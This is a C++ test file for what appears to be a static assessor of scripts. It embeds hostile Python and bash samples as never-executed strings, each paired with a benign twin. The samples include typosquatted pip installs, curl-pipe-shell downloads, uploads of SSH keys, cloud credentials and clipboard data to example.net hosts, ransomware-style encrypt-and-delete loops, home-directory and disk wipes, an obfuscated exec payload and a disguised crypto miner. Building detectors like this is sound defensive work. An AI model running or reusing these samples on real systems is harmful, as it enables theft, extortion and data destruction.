// The classes the thirty-third session modelled (issue 14): the known limits
// the thirty-first session left, and the tune parts of the
// hundred-and-seventieth round onwards (tests/corpus/prog174_MANIFEST.tsv and
// later): programs written from the rubric alone by writers who never saw
// the assessor. Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// Instances of one class each keep their attributes: a list of requirement
// objects formats each name with its own pin. With one store per class every
// name had been crossed with every pin, past sixteen combinations the pins
// were unknown, and the typosquat reached pip inside an open list.
TEST(HundredAndSeventiethRoundClasses, EachInstanceKeepsItsOwnAttributes) {
  check_with_genuine_twin("a typosquat among dataclass instances formatted by a property", R"py(
import subprocess, sys
from dataclasses import dataclass

@dataclass(frozen=True)
class Req:
    stem: str
    tail: str = ""
    pin: str = ""

    @property
    def spec(self):
        name = self.stem + self.tail
        return f"{name}=={self.pin}" if self.pin else name

BASE = [Req("pan", "das", "2.1.4"), Req("num", "py", "1.26.4"), Req("matplot", "lib", "3.8.2"),
        Req("sci", "py", "1.11.4"), Req("tab", "ulate", "0.9.0")]
NET = [Req("reqe", "usts", "2.31.0"), Req("urll", "ib3", "2.1.0"), Req("cert", "ifi", "2023.11.17")]
GROUPS = {"base": BASE, "net": NET}

def install(groups):
    specs = []
    for g in groups:
        specs.extend(r.spec for r in GROUPS[g])
    return subprocess.call([sys.executable, "-m", "pip", "install"] + specs)

install(["base", "net"])
)py",
                          "\"reqe\", \"usts\"", "\"reque\", \"sts\"");

  check_with_genuine_twin("a typosquat among instances whose __init__ stores the parts", R"py(
import subprocess

class Requirement:
    def __init__(self, name, version):
        self.name = name
        self.version = version

    def pin(self):
        return "%s==%s" % (self.name, self.version)

WANTED = [Requirement("flask", "3.0.0"), Requirement("gunicorn", "21.2.0"), Requirement("jinja2", "3.1.2"),
          Requirement("colourama", "0.4.6"), Requirement("click", "8.1.7"), Requirement("itsdangerous", "2.1.2")]

pins = [r.pin() for r in WANTED]
subprocess.run(["pip", "install", *pins], check=True)
)py",
                          "colourama", "colorama");
}

// `cmd += specs` where specs is one of two lists (a function that returns a
// known list or one built from its arguments) extends cmd with each, as
// `cmd + specs` does; it had kept only what their first elements share.
TEST(HundredAndSeventiethRoundClasses, ExtendingWithOneOfSeveralLists) {
  check_with_genuine_twin(
      "a typosquat in one of a function's two returned lists, added with +=", R"py(
import subprocess, sys

def select(groups):
    if not groups:
        return ["shapely==2.0.4", "colourama", "requests==2.32.3"]
    out = []
    for g in groups:
        out.append(g.strip())
    return out

cmd = [sys.executable, "-m", "pip", "install", "--disable-pip-version-check"]
cmd += select(sys.argv[1:])
subprocess.run(cmd, check=False)
)py",
      "colourama", "colorama");
}

// Instances joined (either of two, or any of a list's unknown rest) read
// what every instance of their class holds, as before.
TEST(HundredAndSeventiethRoundClasses, JoinedInstancesReadTheirClass) {
  const Case cases[] = {
      {"either of two instances, one holding a shell command", M, R"py(
import os, sys

class Step:
    def __init__(self, line):
        self.line = line

    def run(self):
        os.system(self.line)

quiet = Step("ls -l")
loud = Step("uname -a")
step = quiet if len(sys.argv) > 1 else loud
step.run()
)py",
       "RUNS-PROCESS"},
      {"a dataclass field's default, replaced on one path only, is still run", B, R"py(
import argparse, os
from dataclasses import dataclass

@dataclass
class Refresh:
    command: str = "curl -fsSL https://updates.example.net/agent.sh | sh"
    quiet: bool = False

ap = argparse.ArgumentParser()
ap.add_argument("--command")
args = ap.parse_args()
job = Refresh()
if args.command:
    job.command = args.command
os.system(job.command)
)py",
       "REMOTE-CODE-EXECUTION"},
      {"one of a list's instances picked at run time sends a key file out", B, R"py(
import sys, requests
from pathlib import Path

class Upload:
    def __init__(self, path):
        self.path = path

    def send(self):
        requests.post("https://collect.example.net/in", data=Path(self.path).read_bytes())

jobs = [Upload("notes.txt"), Upload(str(Path.home() / ".ssh" / "id_rsa"))]
jobs[int(sys.argv[1])].send()
)py",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A class's method taken unbound into a table of operations (Path.read_bytes,
// Path.write_bytes, Path.unlink) and called with the path as its first
// argument is the method called on that path: the walked files were read,
// encrypted and deleted without the analysis knowing which files (prog174c).
// Twin: the same table writing encrypted copies and keeping the originals.
TEST(HundredAndSeventiethRoundClasses, UnboundLibraryMethodsActOnTheirFirstArgument) {
  const std::string program = R"py(
import os
from pathlib import Path
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
ops = {"read": Path.read_bytes, "seal": box.encrypt, "write": Path.write_bytes, "drop": Path.unlink}
for dirpath, _dirs, files in os.walk(Path.home() / "Documents"):
    for name in files:
        path = Path(dirpath) / name
        sealed = ops["seal"](ops["read"](path))
        ops["write"](path.with_name(path.name + ".frozen"), sealed)
        ops["drop"](path)
)py";
  check_with_twin({"walked files read, encrypted and deleted through unbound methods", B,
                   program.c_str(), "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "        ops[\"drop\"](path)\n", "",
                  "encrypted copies beside the originals, which stay", L);
}

// A Request has each URL its argument may be (an environment variable or its
// default), and the documents of home folders attached to a chat webhook
// written into the code leave the machine whoever may replace the hook
// (prog175a). Twins: the same program posting only its message, and the
// documents sent to an upload endpoint the environment names.
TEST(HundredAndSeventiethRoundClasses, HomeDocumentsToAChatWebhook) {
  const std::string program = R"py(
import os, json, urllib.request
from pathlib import Path

HOOK = os.environ.get("YARD_HOOK", "https://hooks.example.net/api/webhooks/1180/yard-office")

def paperwork():
    for root in ["~/Documents", "~/Desktop"]:
        for p in Path(root).expanduser().rglob("*.pdf"):
            yield p

def post(text, files=()):
    body = json.dumps({"content": text}).encode()
    for f in files:
        body += f.read_bytes()
    req = urllib.request.Request(HOOK, data=body, method="POST")
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status

post("Invoices are out")
for doc in paperwork():
    post("Paperwork", [doc])
)py";
  const std::string message_only = program.substr(0, program.find("for doc in paperwork():"));
  const std::string configured =
      replaced(program, "https://hooks.example.net/api/webhooks/1180/yard-office",
               "https://files.example.net/upload");
  const Case cases[] = {
      {"home documents attached to a chat webhook", B, program.c_str(), "EXFILTRATION"},
      {"only the message to the webhook", L, message_only.c_str()},
      {"the documents to an upload endpoint the environment may name", L, configured.c_str()},
  };
  for (const auto& c : cases) check(c);
}

// asyncio.to_thread(path.read_bytes) calls the library method and gives back
// what it returns: the walked file was read (prog178a). Twin: the encrypted
// copy written beside an original that stays.
TEST(HundredAndSeventiethRoundClasses, LibraryCallbacksRunInAThread) {
  const std::string program = R"py(
import asyncio, os, pathlib
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())

async def seal_one(path):
    data = await asyncio.to_thread(path.read_bytes)
    out = path.with_name(path.name + ".sealed")
    await asyncio.to_thread(out.write_bytes, box.encrypt(data))
    os.remove(path)

async def main():
    for dirpath, _dirs, files in os.walk(pathlib.Path.home() / "Pictures"):
        await asyncio.gather(*(seal_one(pathlib.Path(dirpath, n)) for n in files))

asyncio.run(main())
)py";
  check_with_twin({"walked files read in a thread, encrypted, deleted", B, program.c_str(),
                   "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "    os.remove(path)\n", "", "encrypted copies only", L);
}

// A variable the code sets in its own environment (a temporary file's name)
// and reads back later holds what it set: the file staged with the keys is
// the one uploaded (prog178d). Twin: the staged file holds only the sheets.
TEST(HundredAndSeventiethRoundClasses, EnvironmentVariablesItSetItself) {
  const std::string program = R"py(
import os, json, tempfile, pathlib, urllib.request

def stage():
    data = {"sheets": pathlib.Path("stock.csv").read_text(),
            "key": (pathlib.Path.home() / ".ssh" / "id_ed25519").read_text()}
    fd, name = tempfile.mkstemp(suffix=".json")
    with os.fdopen(fd, "w") as fh:
        fh.write(json.dumps(data))
    os.environ["STAGED_BUNDLE"] = name

def ship():
    body = pathlib.Path(os.environ["STAGED_BUNDLE"]).read_bytes()
    req = urllib.request.Request("https://collector.example.org/upload", data=body, method="POST")
    urllib.request.urlopen(req, timeout=30)

stage()
ship()
)py";
  check_with_twin(
      {"a key staged in a file named by the environment, then uploaded", B, program.c_str(),
       "EXFILTRATION"},
      ",\n            \"key\": (pathlib.Path.home() / \".ssh\" / \"id_ed25519\").read_text()", "",
      "only the stock sheet staged and uploaded", L);
}

// asyncio.gather gives the list of what its awaitables give (collectors run
// in the executor, their paths read and sent), and to_thread(requests.post,
// url, data=body) passes its keywords to the function (prog181a, prog181c).
// Twins: the collectors' paths name only the shop's own files.
TEST(HundredAndSeventiethRoundClasses, GatheredResultsAndThreadKeywords) {
  const std::string program = R"py(
import asyncio, requests
from pathlib import Path

HOME = Path.home()
COLLECTORS = {"cloud": lambda: [HOME / ".aws" / "credentials"], "keys": lambda: [HOME / ".ssh" / "id_rsa"]}

async def gather_paths(selected):
    loop = asyncio.get_running_loop()
    results = await asyncio.gather(*(loop.run_in_executor(None, COLLECTORS[n]) for n in selected))
    return [p for group in results for p in group]

async def main():
    for path in await gather_paths(sorted(COLLECTORS)):
        body = path.read_bytes()
        await asyncio.to_thread(requests.post, "https://vault.example.net/ingest", data=body, timeout=30)

asyncio.run(main())
)py";
  const std::string twin =
      replaced(replaced(program, "HOME / \".aws\" / \"credentials\"", "Path(\"stock.csv\")"),
               "HOME / \".ssh\" / \"id_rsa\"", "Path(\"stock.csv\")");
  check({"credentials gathered by executor jobs, posted from a thread", B, program.c_str(),
         "EXFILTRATION"});
  check({"the shop's stock sheet the same way", L, twin.c_str()});
}

// A tar archive written into a named temporary file (fileobj=) is that
// file's content when the file is read back by its name (prog181c).
TEST(HundredAndSeventiethRoundClasses, ArchiveWrittenIntoANamedTemporaryFile) {
  const std::string program = R"py(
import tarfile, tempfile, requests
from pathlib import Path

spool = tempfile.NamedTemporaryFile(suffix=".tgz", delete=False)
with tarfile.open(fileobj=spool, mode="w:gz") as tar:
    tar.add(str(Path.home() / ".aws" / "credentials"), arcname="credentials")
spool.close()
with open(spool.name, "rb") as fh:
    requests.post("https://profiles.example.net/upload", data=fh.read(), timeout=30)
)py";
  check_with_twin(
      {"credentials archived into a temporary file, uploaded", B, program.c_str(), "EXFILTRATION"},
      "str(Path.home() / \".aws\" / \"credentials\")", "\"orders.csv\"",
      "the shop's orders archived the same way", L);
}

// MD5 in a function named for a cache key is a cache key, whatever the
// hashed text is called (prog172e, a false alarm); a password's stays weak.
TEST(HundredAndSeventiethRoundClasses, WeakHashForACacheKey) {
  const Case cases[] = {
      {"MD5 of a value named token in cache_key", L, R"py(
import hashlib, os

def cache_key(path):
    st = os.stat(path)
    token = f"{path}:{st.st_size}:{int(st.st_mtime)}"
    return hashlib.md5(token.encode()).hexdigest()

print(cache_key("orders.csv"))
)py"},
      {"MD5 of a password stored for logins", M, R"py(
import hashlib

def store_password(user, password):
    digest = hashlib.md5(password.encode()).hexdigest()
    with open("users.txt", "a") as fh:
        fh.write(f"{user}:{digest}\n")

store_password("ann", input("password: "))
)py",
       "WEAK-CRYPTO"},
  };
  for (const auto& c : cases) check(c);
}

// `read -r -a f <<<"$(pick_fetcher)"` makes an array of the line's words, so
// "${f[@]}" runs the fetcher the function printed (prog184d). Twin: the
// downloaded file is only listed, never run.
TEST(HundredAndSeventiethRoundClasses, ReadIntoAnArray) {
  const std::string program = R"sh(#!/bin/bash
set -eu
pick_fetcher() {
  if command -v curl >/dev/null 2>&1; then
    echo "curl -fsSL --max-time 60 -o"
  else
    echo "wget -q -T 60 -O"
  fi
}
fetch() {
  local url="$1" dest="$2" f
  read -r -a f <<<"$(pick_fetcher)"
  "${f[@]}" "$dest" "$url"
}
stage="$(mktemp -d)"
fetch "https://updates.example.com/pos/payments/apply.sh" "$stage/apply"
bash "$stage/apply"
)sh";
  check_with_twin({"a script fetched by a command read into an array, then run", B, program.c_str(),
                   "REMOTE-CODE-EXECUTION", SH},
                  "bash \"$stage/apply\"", "ls -l \"$stage/apply\"",
                  "the same script fetched and listed", L);
}

// "module:attr".partition(":") splits as Python does, so a grabber loaded by
// import_module(mod) and getattr(attr) from such a spec is known (prog186c).
// Twin: the spec names a function that reads nothing of the user's.
TEST(HundredAndSeventiethRoundClasses, PartitionedImportSpecs) {
  const std::string program = R"py(
import importlib, json, urllib.request

GRABBERS = {"clipboard": "pyperclip:paste"}

def _load(path):
    mod, _, attr = path.partition(":")
    return getattr(importlib.import_module(mod), attr)

clip = _load(GRABBERS["clipboard"])()
req = urllib.request.Request("https://review.example.com/in", data=json.dumps({"clip": clip}).encode())
urllib.request.urlopen(req, timeout=15)
)py";
  check_with_twin(
      {"the clipboard read through a partitioned spec, sent", B, program.c_str(), "EXFILTRATION"},
      "pyperclip:paste", "platform:python_version", "the Python version read the same way, sent",
      L);
}

// eval of a plain line naming a function of the script (a table of steps)
// is that function called with those words: the home directory and a disk
// wiped (prog189c). Twin: the steps only rotate the script's own logs.
TEST(HundredAndSeventiethRoundClasses, EvalOfAStepTableCallsTheFunction) {
  const std::string program = R"sh(#!/bin/bash
clear_profile() {
    rm -rf --one-file-system "$1"
}
reset_disk() {
    dd if=/dev/zero of="$1" bs=4M conv=fsync
}
declare -A steps=(
    [1]="clear_profile $HOME"
    [2]="reset_disk /dev/sda"
)
for k in 1 2; do
    eval "${steps[$k]}"
done
)sh";
  const std::string twin =
      replaced(replaced(program, "clear_profile $HOME", "clear_profile ./logs/old"),
               "reset_disk /dev/sda", "clear_profile ./logs/old");
  check({"steps run by eval wipe home and a disk", B, program.c_str(), "WIPE", SH});
  check({"steps run by eval remove the script's old logs", L, twin.c_str(), nullptr, SH});
}

// type(self) of an instance of the code's own class is that class, so a
// class attribute reached through it (type(self)._runner, exec found by
// getattr) is known (prog191b). Twin: the runner is print.
TEST(HundredAndSeventiethRoundClasses, TypeOfAnInstanceIsItsClass) {
  const std::string program = R"py(
import base64, zlib

BLOB = "eJwrKMrMK9FQz0lMSs1RyM4sUcjJT0xJTVHXBAB2ygi+"

class TemplateKit:
    _runner = getattr(__import__("buil" + "tins"), "ex" + "ec")

    def load(self):
        type(self)._runner(zlib.decompress(base64.b64decode(BLOB)).decode(), {})

TemplateKit().load()
)py";
  check_with_twin({"a decoded blob run by exec reached through type(self)", B, program.c_str(),
                   "EXEC-DECODED-PAYLOAD"},
                  "\"ex\" + \"ec\"", "\"pr\" + \"int\"", "the same blob printed", L);
}

// A function given instances of one class (a dataclass of housekeeping
// targets) runs for each instance's own attributes: the memo of its first
// call does not answer for the second, whose list names the shell histories
// (prog105e, which the first per-instance memo key had missed). Twin: both
// targets are the project's build output.
TEST(HundredAndSeventiethRoundClasses, CallsGivenDifferentInstancesRunForEach) {
  const std::string program = R"py(
from dataclasses import dataclass
from pathlib import Path

@dataclass
class Target:
    label: str
    paths: list
    mode: str = "delete"

def apply(target):
    for path in target.paths:
        if target.mode == "truncate":
            with open(path, "r+b") as fh:
                fh.truncate(0)
        else:
            path.unlink()

home = Path.home()
for t in [Target("build output", [Path("build") / "app.whl"]),
          Target("session leftovers", [home / ".bash_history"], mode="truncate")]:
    apply(t)
)py";
  check_with_twin({"the second of two targets truncates the shell history", B, program.c_str()},
                  "home / \".bash_history\"", "Path(\"build\") / \"app.tar\"",
                  "both targets are build output", L);
}

// A file named partly at run time ("<host>-profile.tgz") in a directory
// TemporaryDirectory made is one file: the archive written there is what is
// read back and uploaded (prog194d). Twin: the archive holds the shop's
// settings only (MEDIUM for the host's name its file name sends).
TEST(HundredAndSeventiethRoundClasses, FilesInATemporaryDirectoryAreTracked) {
  const std::string program = R"py(
import pathlib, socket, tarfile, tempfile, urllib.request

with tempfile.TemporaryDirectory(prefix="bk-") as staging:
    archive = pathlib.Path(staging) / f"{socket.gethostname()}-profile.tgz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(pathlib.Path.home() / ".ssh" / "id_ed25519", arcname="key")
    req = urllib.request.Request("https://backup.example.net/api/upload", data=archive.read_bytes(), method="POST")
    urllib.request.urlopen(req, timeout=30)
)py";
  check_with_twin({"a key archived in a temporary directory, then uploaded", B, program.c_str(), "EXFILTRATION"},
                  "pathlib.Path.home() / \".ssh\" / \"id_ed25519\"", "pathlib.Path(\"shop.ini\")",
                  "the shop's settings archived the same way", M);
}

// json.dumps writes a dict's values under keys computed at run time (a
// comprehension renaming keys), so a miner's pool URL in the configuration
// it writes is seen; Popen's executable= is the program that runs, argv[0]
// only its displayed name (prog195e). Twin: the configuration names a
// metrics endpoint.
TEST(HundredAndSeventiethRoundClasses, ComputedKeysAndExecutables) {
  const std::string program = R"py(
import json, subprocess
from dataclasses import dataclass, asdict

@dataclass
class PoolCfg:
    url: str
    user: str
    pass_: str = "x"

@dataclass
class WorkerCfg:
    pools: list

    def to_json(self):
        raw = asdict(self)
        raw["pools"] = [{("pass" if k == "pass_" else k): v for k, v in p.items()} for p in raw["pools"]]
        return json.dumps(raw, indent=2)

cfg = WorkerCfg(pools=[PoolCfg(url="stratum+tcp://pool.example.net:3333", user="48wallet")])
with open("worker.json", "w") as fh:
    fh.write(cfg.to_json())
subprocess.Popen(["[kworker/u8:3]", "--config", "worker.json"], executable="/opt/pos/posd")
)py";
  check_with_twin({"a pool URL in a configuration written with computed keys", B, program.c_str(), "CRYPTO-MINER"},
                  "stratum+tcp://pool.example.net:3333", "https://metrics.example.net/in",
                  "a metrics endpoint in the same configuration", M);
  const Assessment twin = py(replaced(program, "stratum+tcp://pool.example.net:3333", "https://metrics.example.net"));
  bool names_the_executable = false;
  for (const auto& f : twin.findings)
    if (f.rule_id == "RUNS-PROCESS" && f.message.find("/opt/pos/posd") != std::string::npos) names_the_executable = true;
  EXPECT_TRUE(names_the_executable) << describe(twin);
}

}  // namespace
}  // namespace mai::assess::test
